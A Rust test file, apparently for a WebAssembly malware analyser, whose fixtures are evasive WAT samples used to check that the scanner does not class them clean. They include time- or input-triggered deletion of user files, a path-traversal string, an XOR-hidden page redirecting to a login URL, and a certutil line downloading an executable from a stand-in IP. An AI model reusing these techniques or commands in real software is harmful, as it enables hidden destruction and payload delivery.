//! What the host is not seen to say: an answer, an empty input, the turn of an export that came late.

use super::{analysed, at_least, class, files, not_accused};
use wasmspoor::verdict::Class;

/// Deletes a file of its own, and then one that `which` chooses: 0 or 1.
fn deletes(functions: &str, which: &str) -> String {
    let imports = r#"(module (import "wasi_snapshot_preview1" "path_readlink"
             (func $readlink (param i32 i32 i32 i32 i32 i32) (result i32)))
           (import "wasi_snapshot_preview1" "fd_readdir" (func $list (param i32 i32 i32 i64 i32) (result i32)))"#;
    let program = files(&format!(
        r#"(data (i32.const 1300) "tmp/order")
           (func $del (param i32 i32) (drop (call $unlink (i32.const 3) (local.get 0) (local.get 1))))
           {functions}
           (func (export "_start") (local $n i32) (drop (call $temporary)) {which}
             (call $del (i32.sub (i32.const 1220) (i32.mul (i32.const 120) (local.get $n)))
               (i32.add (i32.const 6) (i32.mul (i32.const 24) (local.get $n)))))"#
    ));
    program.replacen("(module", imports, 1)
}

#[test]
fn every_answer_may_choose() {
    let of = |call: &str| deletes("", &format!("(local.set $n (i32.eqz {call}))"));
    let order = "(i32.const 3) (i32.const 1300) (i32.const 9)";
    let unlink = of(&format!("(call $unlink {order})"));
    let link = of(&format!("(call $readlink {order} (i32.const 2000) (i32.const 64) (i32.const 64))"));
    let folder = of(&format!("(call $mkdir {order})"));
    let listed = deletes(
        "",
        "(drop (call $list (i32.const 3) (i32.const 2000) (i32.const 4096) (i64.const 0) (i32.const 64)))
         (local.set $n (i32.gt_u (i32.load (i32.const 64)) (i32.const 4000)))",
    );
    at_least(
        Class::Undecided,
        &[("unlink", unlink), ("readlink", link), ("a folder", folder), ("a listing", listed)],
    );
}

/// What is listed is deleted, whatever it is: the program's own.
#[test]
fn a_folder_of_its_own_is_cleared() {
    let text = files(
        r#"(func (export "_start") (drop (call $temporary))
             (if (i32.eqz (call $mkdir (i32.const 3) (i32.const 1220) (i32.const 5))) (then))
             (drop (call $unlink (i32.const 3) (i32.const 1220) (i32.const 6))))"#,
    );
    assert_eq!(class(&text), Class::Clean);
}

#[test]
fn an_input_that_was_empty_may_choose() {
    let input = "(drop (call $read (i32.const 0)))
        (local.set $n (i32.eq (i32.load8_u (i32.const 4096)) (i32.const 120)))";
    at_least(Class::Undecided, &[("standard input", deletes("", input))]);
}

/// A text that the time chose, put where it is not seen whence it came.
#[test]
fn a_text_that_was_taken_from_a_row_was_chosen() {
    let choose = "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 64)))
        (local.set $i (i32.mul (i32.const 40)
          (i32.wrap_i64 (i64.shr_u (i64.load (i32.const 64)) (i64.const 62)))))";
    let row =
        r#"(data (i32.const 1400) "tmp/zz/../../tmp/zz/../../tmp/zz/../zz..home/user/documents/report.txt")"#;
    let of = |copy: &str| {
        files(&format!(
            r#"{row} (func (export "_start") (local $n i32) (local $i i32) (drop (call $temporary)) {choose} {copy}
                 (drop (call $unlink (i32.const 3) (i32.const 3000) (i32.const 30))))"#
        ))
    };
    let bytes = of("(loop $next (i32.store8 offset=3000 (local.get $n)
           (i32.load8_u offset=1400 (i32.add (local.get $n) (local.get $i))))
         (br_if $next (i32.lt_u (local.tee $n (i32.add (local.get $n) (i32.const 1))) (i32.const 30))))");
    let whole = of("(memory.copy (i32.const 3000) (i32.add (i32.const 1400) (local.get $i)) (i32.const 30))");
    at_least(Class::Undecided, &[("byte by byte", bytes), ("at once", whole)]);
}

/// A flag that the time set, which is the index of a call that may lead to many functions.
#[test]
fn a_flag_may_be_an_index() {
    let many: String = (0..40).map(|number| format!("(func $idle{number})")).collect();
    let names: String = (0..40).map(|number| format!(" $idle{number}")).collect();
    let text = files(&format!(
        r#"(func $del (param i32 i32) (drop (call $unlink (i32.const 3) (local.get 0) (local.get 1))))
           (func $evil (call $del (i32.const 1100) (i32.const 30))) {many}
           (table 42 42 funcref) (elem (i32.const 0) $idle0 $evil {names})
           (func (export "_start") (drop (call $temporary)) (call $del (i32.const 1220) (i32.const 6))
             (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 64)))
             (if (i64.gt_u (i64.load (i32.const 64)) (i64.const 0x7000000000000000))
               (then (i32.store (i32.const 60) (i32.const 1))))
             (call_indirect (i32.load (i32.const 60))))"#
    ));
    at_least(Class::Undecided, &[("a flag", text)]);
}

/// A function of nobody's runtime, whatever it is called.
#[test]
fn a_name_is_no_runtime() {
    let late = |name: &str| {
        format!(
            r#"(module (import "wasi_snapshot_preview1" "clock_time_get"
                 (func $clock (param i32 i64 i32) (result i32)))
               (import "env" "{name}" (func $put (param i32 i32))) (memory (export "memory") 1)
               (func (export "_start") (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 64)))
                 (if (i64.gt_u (i64.load (i32.const 64)) (i64.const 0x7000000000000000))
                   (then (call $put (i32.const 8) (i32.const 9))))))"#
        )
    };
    let names = ["memcpy_x", "__cxa_tell", "abort_with"];
    at_least(Class::Undecided, &names.map(|name| (name, late(name))));
}

/// A page that is built in memory by an export after many that are busy.
#[test]
fn busy_exports_leave_a_turn_for_the_others() {
    let page = b"<html><body><script>location='https://login.example.invalid/'</script></body></html>";
    let hidden: String = page.iter().map(|byte| format!("\\{:02x}", byte.wrapping_mul(5))).collect();
    let busy = |number: u32, rounds: u32| {
        format!(
            r#"(func (export "a{number}") (param i32) (result i32) (local $i i32)
                 (local.set $i (i32.const {rounds}))
                 (loop $l (br_if $l (local.tee $i (i32.sub (local.get $i) (i32.const 1)))))
                 (i32.add (local.get 0) (i32.const {number})))"#
        )
    };
    let of = |exports: u32, rounds: u32, page: &str| {
        let busy: String = (0..exports).map(|number| busy(number, rounds)).collect();
        format!(
            r#"(module (memory (export "memory") 4) (data (i32.const 1024) "{hidden}") {busy}
                 (func (export "prepare") (local $i i32) {page}))"#
        )
    };
    let build = format!(
        "(loop $next (i32.store8 (i32.add (i32.const 100000) (local.get $i))
           (i32.mul (i32.const 205) (i32.load8_u offset=1024 (local.get $i))))
         (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const {}))))",
        page.len()
    );
    at_least(
        Class::PotentiallyUnwanted,
        &[("as it is", of(2, 10, &build)), ("after 70 others", of(70, 1_000_000, &build))],
    );
    not_accused(&[("nothing behind them", of(70, 1_000_000, ""))]);
}

/// Much that holds one byte takes no room of what is looked through.
#[test]
fn what_was_filled_hides_nothing() {
    let page = b"<html><body><script>location='https://login.example.invalid/'</script></body></html>";
    let hidden: String = page.iter().map(|byte| format!("\\{:02x}", byte.wrapping_mul(5))).collect();
    let text = format!(
        r#"(module (memory (export "memory") 3420) (data (i32.const 1024) "{hidden}")
             (func (export "prepare") (local $i i32)
               (memory.fill (i32.const 1000000) (i32.const 7) (i32.const 212000000))
               (loop $next (i32.store8 (i32.add (i32.const 215000000) (local.get $i))
                   (i32.mul (i32.const 205) (i32.load8_u offset=1024 (local.get $i))))
                 (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const {}))))))"#,
        page.len()
    );
    at_least(Class::PotentiallyUnwanted, &[("filled", text)]);
}

/// A page that shows a text many times, `each` time after some stores, and then a command.
fn shows(each: &str, times: u32) -> String {
    format!(
        r#"(module (import "page" "show" (func $show (param i32 i32))) (memory (export "memory") 16)
             (data (i32.const 6000) "The beds are planted and the water tank was delivered on Monday says the report.")
             (data (i32.const 700) "certutil -urlcache -f http://203.0.113.9/a.exe a.exe")
             (func (export "draw") (local $i i32)
               (loop $c (memory.copy (i32.add (i32.const 8192) (i32.mul (local.get $i) (i32.const 80)))
                   (i32.const 6000) (i32.const 80))
                 (br_if $c (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 60))))
               (local.set $i (i32.const {times}))
               (loop $f {each} (call $show (i32.const 8192) (i32.const 4000))
                 (br_if $f (local.tee $i (i32.sub (local.get $i) (i32.const 1)))))
               (call $show (i32.const 700) (i32.const 52))))"#
    )
}

/// The same text, four thousand times, before a command.
#[test]
fn a_text_that_is_repeated_starves_no_rule() {
    let [plain, flood] = [1, 4000].map(|times| analysed(&shows("", times)).verdict);
    assert_eq!(plain.class, flood.class, "{:?}\n{:?}", plain.reasons, flood.reasons);
}

/// Six thousand texts that are all different, before a command.
#[test]
fn a_rule_that_was_starved_leaves_nothing_clean() {
    let letters: String = (0..10)
        .map(|number| {
            let (at, bits) = (8201 + 400 * number, 3 * (number % 4));
            format!(
                "(i32.store8 (i32.const {at}) (i32.add (i32.const 97)
                   (i32.rem_u (i32.shr_u (local.get $i) (i32.const {bits})) (i32.const 8))))"
            )
        })
        .collect();
    let flood = analysed(&shows(&letters, 6000)).verdict;
    assert_ne!(flood.class, Class::Clean, "{:?}", flood.reasons);
}

/// The number of arguments chooses which file is deleted.
#[test]
fn a_number_of_arguments_chooses() {
    let text = r#"(module
        (import "wasi_snapshot_preview1" "args_sizes_get" (func $sizes (param i32 i32) (result i32)))
        (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
        (memory (export "memory") 2)
        (data (i32.const 1024) "tmp/cache/x.tmp\00home/user/a.doc\00")
        (func (export "_start")
          (drop (call $sizes (i32.const 8) (i32.const 12)))
          (drop (call $unlink (i32.const 3) (i32.add (i32.const 1024)
            (i32.mul (i32.const 16) (i32.sub (i32.load (i32.const 8)) (i32.const 1)))) (i32.const 15)))))"#;
    let verdict = analysed(text).verdict;
    assert_ne!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
}

/// The time says how often a loop turns, and that chooses which file is deleted.
#[test]
fn turns_of_a_loop_choose() {
    let of = |unlink: &str| {
        class(&format!(
            r#"(module
        (import "wasi_snapshot_preview1" "clock_time_get" (func $clock (param i32 i64 i32) (result i32)))
        (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
        (memory (export "memory") 2)
        (data (i32.const 1024) "tmp/cache/x.tmp\00home/user/a.doc\00")
        (func $days (result i32)
          (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 8)))
          (i32.and (i32.wrap_i64 (i64.shr_u (i64.load (i32.const 8)) (i64.const 55))) (i32.const 1)))
        (func (export "_start") (local $n i32) (local $p i32)
          (local.set $p (i32.const 1024))
          (local.set $n (call $days))
          (block $o (loop $l
            (br_if $o (i32.eqz (local.get $n)))
            (local.set $n (i32.sub (local.get $n) (i32.const 1)))
            (local.set $p (i32.add (local.get $p) (i32.const 16)))
            (br $l)))
          {unlink}))"#
        ))
    };
    assert_eq!(of(""), Class::Clean);
    assert_ne!(of("(drop (call $unlink (i32.const 3) (local.get $p) (i32.const 15)))"), Class::Clean);
}

/// A flag that one function keeps in a global, and another calls by.
#[test]
fn a_flag_may_be_set_elsewhere() {
    let many: String = (0..40).map(|number| format!("(func $idle{number})")).collect();
    let names: String = (0..40).map(|number| format!(" $idle{number}")).collect();
    let of = |set: &str| {
        files(&format!(
            r#"(global $flag (mut i32) (i32.const 0))
               (func $del (param i32 i32) (drop (call $unlink (i32.const 3) (local.get 0) (local.get 1))))
               (func $evil (call $del (i32.const 1100) (i32.const 30))) {many}
               (table 42 42 funcref) (elem (i32.const 0) $idle0 $evil {names})
               (func $look (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 64)))
                 (if (i64.gt_u (i64.load (i32.const 64)) (i64.const 0x7000000000000000)) (then {set})))
               (func $act (call_indirect (global.get $flag)))
               (func (export "_start") (drop (call $temporary)) (call $del (i32.const 1220) (i32.const 6))
                 (call $look) (call $act))"#
        ))
    };
    at_least(Class::Undecided, &[("a global", of("(global.set $flag (i32.const 1))"))]);
    assert_eq!(class(&of("(nop)")), Class::Clean);
}

/// Calls of functions that nobody knows, which another such function or the time decides.
#[test]
fn what_an_unknown_function_gives_may_choose_or_be_a_key() {
    let page = |imports: &str, body: &str| {
        format!(
            r#"(module {imports} (import "page" "q" (func $q (param i32 i32))) (memory (export "memory") 1)
                 (data (i32.const 1064) "The beds are planted and it rains.")
                 (data (i32.const 1164) "0123456789abcdefghijklmnopqrstuvwx")
                 (global $n (mut i32) (i32.const 0))
                 (func (export "draw") (local $i i32) {body}))"#
        )
    };
    let key = r#"(import "page" "k" (func $k (result i32)))"#;
    let clock = r#"(import "wasi_snapshot_preview1" "clock_time_get" (func $clock (param i32 i64 i32) (result i32)))"#;
    let made = "(loop $l (i32.store8 offset=1064 (local.get $i)
          (i32.xor (i32.load8_u offset=1064 (local.get $i)) (call $k)))
        (br_if $l (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 34))))
      (call $q (i32.const 1064) (i32.const 34))";
    let which = |condition: &str| {
        format!("(call $q (select (i32.const 1164) (i32.const 1064) {condition}) (i32.const 34))")
    };
    let late = "(i64.gt_u (i64.load (i32.const 64)) (i64.const 0x7000000000000000))";
    let dated = format!("(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 64))) {}", which(late));
    let counted = "(global.set $n (i32.add (global.get $n) (i32.const 1)))
        (if (i32.eq (global.get $n) (i32.const 100000)) (then (call $q (i32.const 1064) (i32.const 34))))";
    at_least(
        Class::Undecided,
        &[
            ("a key", page(key, made)),
            ("which", page(key, &which("(i32.eq (call $k) (i32.const 7))"))),
            ("the time", page(clock, &dated)),
            ("a count", page("", counted)),
        ],
    );
    assert_eq!(class(&page("", &which("(global.get $n)"))), Class::Clean);
}
